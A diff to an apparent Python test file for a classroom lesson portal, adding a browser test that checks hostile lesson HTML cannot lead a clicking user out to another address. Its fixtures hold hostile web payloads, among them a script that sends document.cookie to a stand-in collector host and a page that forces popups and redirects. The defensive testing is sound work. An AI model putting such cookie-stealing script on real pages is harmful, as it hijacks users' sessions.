@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import asyncio
 from collections.abc import AsyncIterator
+from contextlib import AsyncExitStack
 from pathlib import Path
 
 import pytest
@@ -13,8 +15,16 @@ from protocol.manifest import ManifestEntry, decode_manifest, encode_manifest
 from sync_agent.coursework_rules import wanted_files
 from sync_agent.watch_brake import Change, is_burst, is_scrambled
 from tests.harness.attack import attack
+from tests.harness.browser import chromium, visitor
 from tests.harness.classroom import Classroom, classroom
 from tests.harness.portal import portal
+
+LEADS_OUT = """<!doctype html><button id="b">Commencer</button><script>
+document.getElementById("b").onclick = () => {
+  window.open("http://127.0.0.1:PORT/popup?what-lea-typed");
+  setTimeout(() => { location.href = "http://127.0.0.1:PORT/self?what-lea-typed"; }, 200);
+};
+</script>"""
 
 HOSTILE = {"index.html": b"<script>fetch('https://collect.example/?' + document.cookie)</script>"}
 
@@ -43,6 +53,44 @@ async def test_a_lesson_loads_from_nowhere_else_and_sends_nothing_anywhere(room:
     assert "*" not in policy["default-src"]
     assert "allow-top-navigation" not in policy["sandbox"]
     assert "Set-Cookie" not in answer.headers
+
+
+@attack(
+    "hostile lesson HTML",
+    off={
+        "sync_agent.portal.lessons._ALLOWED": "allow-scripts allow-same-origin allow-popups",
+        "sync_agent.portal.lessons.Lessons._would_run_unframed": lambda *_: False,
+    },
+)
+async def test_a_lesson_leads_nobody_who_clicks_in_it_out_of_the_machine(room: Classroom) -> None:
+    asked: list[bytes] = []
+
+    async def hear(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        if said := await reader.read(200):  # browsers connect ahead of what they are then not allowed to ask
+            asked.append(said)
+        writer.close()
+
+    async with AsyncExitStack() as stack:
+        elsewhere = await asyncio.start_server(hear, "127.0.0.1", 0)
+        stack.callback(elsewhere.close)
+        teacher, pc = await room.teacher(), await room.machine()
+        page = LEADS_OUT.replace("PORT", str(elsewhere.sockets[0].getsockname()[1])).encode()
+        item = (await room.publish(teacher, {"index.html": page})).item.hex()
+        for device in (teacher, pc):
+            await device.session.sync()
+        surfer = await stack.enter_async_context(portal(pc.agent))
+        somebody = await stack.enter_async_context(visitor(await stack.enter_async_context(chromium())))
+        shown = await somebody.page()
+        for opened_by in (None, ".lesson-bar a", "iframe"):
+            await shown.goto(f"{surfer.origin}/item/{item}")
+            if opened_by is not None:
+                address = await shown.locator(opened_by).evaluate("node => node.href || node.src")
+                await shown.goto(str(address))
+            framed = await shown.locator("iframe").count() > 0
+            button = (shown.frame_locator("iframe") if framed else shown).locator("#b")
+            async with shown.expect_event("framenavigated"):
+                await button.click()
+    assert asked == []
 
 
 @attack(
